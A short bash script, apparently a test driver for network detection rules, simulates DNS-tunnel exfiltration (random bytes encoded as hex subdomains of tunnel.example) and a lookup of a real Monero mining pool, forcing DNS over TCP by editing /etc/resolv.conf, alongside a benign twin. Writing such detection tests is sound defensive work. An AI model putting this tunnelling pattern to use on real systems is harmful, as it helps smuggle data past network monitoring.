#!/bin/bash
# A file leaves in names, and a miner asks for its pool: the resolver is told to ask by TCP, where fewer look.
#: title: DNS tunnel, and a mining pool, by TCP
#: technique: T1071.004
#: needs: dns
#: rules: dns_tunnel, mining_pool_looked_up
#: twin: a few names are asked for by TCP, a time server's pool among them
. "$DRIVERS/lib.sh"

by_tcp() {
	. "$DRIVERS/lib.sh"
	name_server
	echo "options use-vc" >>/etc/resolv.conf
}

carry() {
	by_tcp
	head -c 1200 /dev/urandom | od -An -v -tx1 -w30 | tr -d ' ' | while read -r piece; do
		getent ahosts "$piece.tunnel.example" >/dev/null
	done
	getent ahosts pool.supportxmr.com >/dev/null
}

resolve() {
	by_tcp
	for name in www.example.com static.cdn.example 2.pool.ntp.org; do getent ahosts $name >/dev/null; done
}

export -f by_tcp

attack() {
	in_own_network carry
	did tunnel.example pool.supportxmr.com
}

twin() {
	in_own_network resolve
	did example.com
}

"$1"
